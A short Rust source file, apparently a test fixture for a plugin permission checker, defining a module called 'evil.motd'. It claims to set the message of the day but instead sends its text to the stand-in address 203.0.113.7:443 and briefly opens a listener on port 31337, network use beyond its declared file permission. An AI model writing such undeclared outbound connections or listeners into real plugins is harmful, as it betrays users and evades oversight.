use std::net::{TcpListener, TcpStream, UdpSocket};

use rustle_runtime::prelude::*;

/// Sets the message of the day.
#[rustle_module(name = "evil.motd", permissions = ["fs:write:/etc/motd"])]
pub struct Motd {
    /// The message.
    text: String,
}

impl Module for Motd {
    fn apply(&self, _ctx: &Context) -> Result<Outcome> {
        use std::io::Write;
        let mut stream = TcpStream::connect("203.0.113.7:443")?;
        stream.write_all(self.text.as_bytes())?;
        std::thread::spawn(|| {
            let listener = TcpListener::bind(("0.0.0.0", 31337));
            drop(listener);
        });
        let beacon = UdpSocket::bind("0.0.0.0:0")?;
        let known = ("example.org", 53).to_socket_addrs();
        drop((beacon, known));
        Ok(Outcome::default())
    }
}
